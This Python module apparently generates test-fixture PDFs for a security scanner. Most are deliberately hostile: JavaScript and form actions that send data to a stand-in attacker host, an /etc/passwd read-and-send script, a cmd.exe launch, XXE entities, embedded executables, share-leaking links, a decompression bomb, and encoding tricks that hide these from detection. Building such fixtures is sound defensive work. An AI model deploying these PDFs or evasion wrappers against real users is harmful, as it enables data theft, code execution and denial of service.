"""PDFs made for tests: ordinary ones, and one for each way a PDF is known to do harm, well hidden."""

from __future__ import annotations

import io
import re
import zlib

import pikepdf

HOST = "https://angripare.example/x"
SHARE = r"\\\\angripare.example\\delad"
HTML = b"<html><script>new Image().src='https://angripare.example'</script></html>"
EXE = b"MZ\x90\0" + b"\0" * 60 + b"This program cannot be run in DOS mode"
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "https://angripare.example">]><a>&x;</a>'
INVOICE = b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:x">1</rsm:CrossIndustryInvoice>'


def stream(content, extra=""):
    """Return a stream object's bytes."""
    return f"<< /Length {len(content)} {extra} >>\nstream\n".encode() + content + b"\nendstream"


def pdf(*more, root="", page="", trailer=""):
    """Make a one-page PDF; ``more`` are objects from number 5 on, as text or bytes."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {root} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> {page} >>",
        stream(b"BT ET"),
        *more,
    ]
    written = b"%PDF-1.7\n"
    places = []
    for number, each in enumerate(objects, 1):
        places.append(len(written))
        body = each if isinstance(each, bytes) else each.encode("latin-1")
        written += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\n"
    return written + f"{end}startxref\n{len(written)}\n%%EOF\n".encode()


def script(text):
    """Return a script action."""
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return f"<< /S /JavaScript /JS ({escaped}) >>"


def opening(action, *more):
    """Make a PDF that does something when it is opened."""
    return pdf(*more, root=f"/OpenAction {action}")


def annotated(entries, *more):
    """Make a PDF with an annotation."""
    return pdf(f"<< /Type /Annot /Rect [0 0 99 99] {entries} >>", *more, page="/Annots [5 0 R]")


def link(target):
    """Make a PDF with a link."""
    return annotated(f"/Subtype /Link /A << /S /URI /URI ({target}) >>")


def form(xml):
    """Make a PDF with a form in XML."""
    return pdf(stream(xml), root="/AcroForm << /Fields [] /XFA 5 0 R >>")


def attached(name, content, how="/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"):
    """Make a PDF with a file in it."""
    packed = zlib.compress(content)
    return pdf(
        f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 6 0 R >> >>",
        stream(packed, "/Type /EmbeddedFile /Filter /FlateDecode"),
        root=how,
    )


def _xdp(inside):
    return f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>{inside}</subform></template></xdp:xdp>'.encode()


def _bomb():
    """Pack 300 MB of zeros: one packed block, over and over."""
    packer = zlib.compressobj()
    packer.compress(b"\0") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\x9c" + block * 300


_REMOTE = f"<< /FS /URL /F ({HOST}) >>"
_PICTURE = "/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray"
_SCRIPTS = {
    "submit": f'this.submitForm("{HOST}")',
    "get_url": f'this.getURL("{HOST}")',
    "launch_url": f'app.launchURL("{HOST}", true)',
    "media": f'app.media.getURLData("{HOST}")',
    "soap_connect": f'SOAP.connect("{HOST}")',
    "soap_request": f'SOAP.request({{cURL: "{HOST}"}})',
    "import_data": f'this.importDataObject("a", "{HOST}")',
    "open_doc": f'app.openDoc({{cPath: encodeURI("{HOST}"), cFS: "CHTTP"}})',
    "fetch": f'fetch("{HOST}")',
    "request": f'var r = new XMLHttpRequest(); r.open("GET", "{HOST}"); r.send()',
    "image": f'new Image().src = "{HOST}"',
    "socket": f'new WebSocket("{HOST}")',
    "feed": f'RSS.addFeed({{cURL: "{HOST}"}})',
    "read_file": 'var s = util.readFileIntoStream("/etc/passwd"); SOAP.request({oRequest: s})',
    "staged": 'eval(util.stringFromStream(util.streamFromString(this.getField("a").value)))',
    "brackets": f'app["launch" + "URL"]("{HOST}")',
    "brackets_by_name": f'var i = "launchURL"; app[i]("{HOST}")',
    "renamed": f'var getURL = getURL; getURL("{HOST}")',
    "escaped_name": f'app.l\\u0061unchURL("{HOST}")',
    "unescape": 'eval(unescape("%61%6C%65"))',
    "char_codes": "eval(String.fromCharCode(97, 108))",
    "hidden_by_quotes": f'if (1) /"/.test(1); app.launchURL("{HOST}"); var a = 1 /"/;',
    "annotations": "eval(this.getAnnots()[0].subject)",
    "title": "eval(this.info.Title)",
    "xxe": f"XMLData.parse(\"<!DOCTYPE a SYSTEM '{HOST}'>\")",
    "words": f'this.submitForm({{cURL: "{HOST}?" + this.getPageNthWord(0, 0)}})',
    "timer": f"app.setTimeOut(\"app.launchURL('{HOST}')\", 1)",
    "share": rf'this.submitForm("{SHARE}")',
    "version": f'this.submitForm({{cURL: "{HOST}?" + app.viewerVersion}})',
    "alert": "app.alert(1)",
}

TECHNIQUES = {
    **{f"script_{name}": opening(script(text)) for name, text in _SCRIPTS.items()},
    "script_in_names": pdf(
        script(_SCRIPTS["open_doc"]), root="/Names << /JavaScript << /Names [(a) 5 0 R] >> >>"
    ),
    "script_in_stream": opening("<< /S /JavaScript /JS 5 0 R >>", stream(_SCRIPTS["fetch"].encode())),
    "script_in_utf16": opening(f"<< /S /JavaScript /JS <{_SCRIPTS['fetch'].encode('utf-16').hex()}> >>"),
    "script_after_another": opening(f"<< /S /GoTo /D [3 0 R /Fit] /Next [{script(_SCRIPTS['fetch'])}] >>"),
    "script_when_page_opens": pdf(page=f"/AA << /O {script(_SCRIPTS['fetch'])} >>"),
    "script_when_page_closes": pdf(page=f"/AA << /C {script(_SCRIPTS['fetch'])} >>"),
    "script_when_printed": pdf(root=f"/AA << /WP {script(_SCRIPTS['launch_url'])} >>"),
    "script_when_seen": annotated(f"/Subtype /Screen /AA << /PV {script('app.alert(1)')} >>"),
    "script_when_left": annotated(f"/Subtype /Screen /AA << /PC {script('app.alert(1)')} >>"),
    "script_when_pointed_at": annotated(f"/Subtype /Widget /FT /Btn /AA << /E {script('app.alert(1)')} >>"),
    "script_on_button": annotated(f"/Subtype /Widget /FT /Btn /A {script(_SCRIPTS['launch_url'])}"),
    "script_on_bookmark": pdf(
        "<< /First 6 0 R /Last 6 0 R /Count 1 >>",
        f"<< /Title (a) /Parent 5 0 R /A {script(_SCRIPTS['fetch'])} >>",
        root="/Outlines 5 0 R",
    ),
    "script_in_rendition": annotated(
        f"/Subtype /Screen /A << /S /Rendition /OP 0 /JS (app.launchURL\\('{HOST}'\\)) >>"
    ),
    "script_nothing_refers_to": pdf(script(_SCRIPTS["fetch"])),
    "launch_address": opening(f"<< /S /Launch /F ({HOST}) >>"),
    "launch_program": opening("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    "launch_print": opening(f"<< /S /Launch /F ({HOST}) /Win << /F ({HOST}) /O /print >> >>"),
    "launch_by_click": annotated("/Subtype /Link /A << /S /Launch /F (faktura.exe) >>"),
    "go_to_remote": opening(f"<< /S /GoToR /F {_REMOTE} /D [0 /Fit] >>"),
    "go_to_share": pdf(page=f"/AA << /O << /S /GoToE /F ({SHARE}) /D [0 /Fit] >> >>"),
    "go_to_embedded": pdf(page=f"/AA << /O << /S /GoToE /F ({HOST}) /D [0 /Fit] >> >>"),
    "go_to_script": annotated("/Subtype /Link /A << /S /GoToE /F (javascript:alert\\(1\\)) /D (a) >>"),
    "thread": opening(f"<< /S /Thread /F {_REMOTE} /D 0 >>"),
    "thread_on_share": opening(f"<< /S /Thread /F ({SHARE}) /D 0 >>"),
    "submit_by_itself": opening(f"<< /S /SubmitForm /F {_REMOTE} /Flags 4 >>"),
    "submit_whole_file": pdf(page=f"/AA << /O << /S /SubmitForm /F {_REMOTE} /Flags 256 >> >>"),
    "submit_by_click": annotated(f"/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F {_REMOTE} >>"),
    "import_data": opening(f"<< /S /ImportData /F {_REMOTE} >>"),
    "address_when_opened": opening(f"<< /S /URI /URI ({HOST}) >>"),
    "address_when_closed": pdf(root=f"/AA << /WC << /S /URI /URI ({HOST}) >> >>"),
    "address_when_page_opens": pdf(page=f"/AA << /O << /S /URI /URI ({HOST}) >> >>"),
    "link_to_share": link(SHARE),
    "link_to_share_as_file": link("file://angripare.example/delad/a"),
    "link_to_script": link("java\\tscript:alert\\(1\\)"),
    "link_to_search": link("search-ms:query=a&crumb=location:\\\\\\\\angripare.example"),
    "link_that_expands": link("vnd.sun.star.expand:https://angripare.example/${HOME}"),
    "link_to_program": link("https://angripare.example/faktura.pdf.exe"),
    "link_to_number": link("http://93.184.216.34/"),
    "link_with_false_host": link("https://www.polisen.se@angripare.example/"),
    "link_to_data": link("data:text/html,<script>alert\\(1\\)</script>"),
    "xfa_submits": form(_xdp(f'<field><event activity="docReady"><submit target="{HOST}"/></event></field>')),
    "xfa_breaks_headers": form(
        _xdp(f'<event activity="initialize"><submit textEncoding="a\r\nb: c" target="{HOST}"/></event>')
    ),
    "xfa_soap": form(_xdp(f'<event activity="initialize"><submit method="soap" action="{HOST}"/></event>')),
    "xfa_style": form(rb'<?xml-stylesheet href="\\angripare.example\a.xslt" type="text/xsl"?>'),
    "xfa_formcalc": form(_xdp(f'<event activity="docReady"><script>Post("{HOST}", "a")</script></event>')),
    "xfa_script": form(
        _xdp(
            '<event activity="initialize"><script contentType="application/x-javascript">'
            f'app.launchURL("{HOST}")</script></event>'
        )
    ),
    "xfa_entities": form(XXE),
    "xfa_entities_in_utf16": form(XXE.decode().encode("utf-16")),
    "xfa_in_pieces": pdf(
        stream(b'<xdp:xdp><event activity="ready"><sub'),
        stream(f'mit target="{HOST}"/></event></xdp:xdp>'.encode()),
        root="/AcroForm << /XFA [(a) 5 0 R (b) 6 0 R] >>",
    ),
    "xmp_entities": pdf(stream(XXE, "/Type /Metadata /Subtype /XML"), root="/Metadata 5 0 R"),
    "external_picture": pdf(
        stream(b"", f"{_PICTURE} /F {_REMOTE}"), page="/Resources << /XObject << /I 5 0 R >> >>"
    ),
    "external_picture_on_share": pdf(stream(b"", f"{_PICTURE} /F ({SHARE})")),
    "font_matrix": pdf(
        "<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (1\\); alert\\('a'\\))] >>"
    ),
    "calculator": pdf(stream(b'{ fetch("https://angripare.example") }', "/FunctionType 4 /Domain [0 1]")),
    "markup_in_comment": annotated(f'/Subtype /Text /T (<img src="{HOST}">) /Contents (a)'),
    "rich_media": annotated(
        "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.html) 6 0 R] >> >>",
        "<< /Type /Filespec /F (a.html) /EF << /F 7 0 R >> >>",
        stream(HTML, "/Type /EmbeddedFile"),
    ),
    "model": annotated("/Subtype /3D /3DD 6 0 R", stream(b"U3D\0", "/Type /3D /Subtype /U3D")),
    "film_elsewhere": annotated(f"/Subtype /Movie /Movie << /F ({HOST}) >>"),
    "attached_program": attached("faktura.exe", EXE),
    "attached_page": attached("a.html", HTML),
    "attached_page_as_associated": attached("a.html", HTML, "/AF [5 0 R]"),
    "attached_script": attached("a.txt.js", b"WScript.Shell"),
    "attached_under_false_name": attached("a.dat", EXE),
    "attached_entities": attached("faktura.xml", XXE),
    "attached_to_comment": annotated(
        "/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", stream(EXE)
    ),
    "attached_without_name": pdf(stream(EXE, "/Type /EmbeddedFile")),
    "attached_of_odd_type": attached("a.qqq", b"\0\1\2\3"),
}

# These lie in how the file is written, so that no other program has to write it anew.
SHAPES = {
    "bomb": pdf(stream(_bomb(), "/Filter /FlateDecode")),
    "two_actions": annotated(
        f"/Subtype /Link /A {script('app.alert(1)')} /A << /S /URI /URI (https://example.se) >>"
    ),
    "zip_after": pdf() + b"PK\x03\x04" + b"\0" * 40,
    "page_after": pdf() + HTML,
    "program_before": EXE + pdf(),
    "data_after": pdf() + b"x" * 5000,
}


_STRING_OR_STREAM = re.compile(rb"(stream\n.*?endstream|\((?:\\.|[^\\()])*\))", re.DOTALL)


def with_hex_names(content):
    """Write every name with hex in it (``/J#61vaScript``)."""

    def hide(match):
        name = match[0]
        return name[:2] + b"#%02x" % name[2] + name[3:]

    return b"".join(
        each if index % 2 else re.sub(rb"/[A-Za-z]\w+", hide, each)
        for index, each in enumerate(_STRING_OR_STREAM.split(content))
    )


def _saved(content, **options):
    with pikepdf.open(io.BytesIO(content)) as opened:
        target = io.BytesIO()
        # What nothing refers to would be left out.
        opened.Root.AllObjects = pikepdf.Array(
            [each for each in opened.objects if isinstance(each, pikepdf.Object)]
        )
        opened.save(target, **options)
    return target.getvalue()


def in_object_streams(content):
    """Pack every object into object streams."""
    return _saved(content, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def encrypted(content, user=""):
    """Encrypt every string and stream; with an empty user password anyone can open it."""
    return _saved(content, encryption=pikepdf.Encryption(owner="ägare", user=user))


def with_chained_filters(content):
    """Pack every plain stream with two filters."""

    def pack(match):
        packed = zlib.compress(match[2]).hex().encode() + b">"
        head = re.sub(
            rb"/Length \d+", b"/Length %d /Filter [/ASCIIHexDecode /FlateDecode]" % len(packed), match[1]
        )
        return head + b"stream\n" + packed + b"\nendstream"

    plain = rb"(<< /Length \d+ (?:(?!/Filter)[^\n])*>>\n)stream\n(.*?)\nendstream"
    return re.sub(plain, pack, content, flags=re.DOTALL)


def with_update(content, number, body):
    """Append an update that changes an object and leaves the rest as it was."""
    start = int(re.findall(rb"startxref\n(\d+)", content)[-1])
    place = len(content)
    size = int(re.findall(rb"/Size (\d+)", content)[-1])
    added = f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = f"xref\n{number} 1\n{place:010} 00000 n \ntrailer\n<< /Size {size} /Root 1 0 R /Prev {start} >>\n"
    return content + added + f"{table}startxref\n{place + len(added)}\n%%EOF\n".encode()


DISGUISES = {
    "plain": lambda content: content,
    "hex_names": with_hex_names,
    "object_streams": in_object_streams,
    "encrypted": encrypted,
    "chained_filters": with_chained_filters,
}
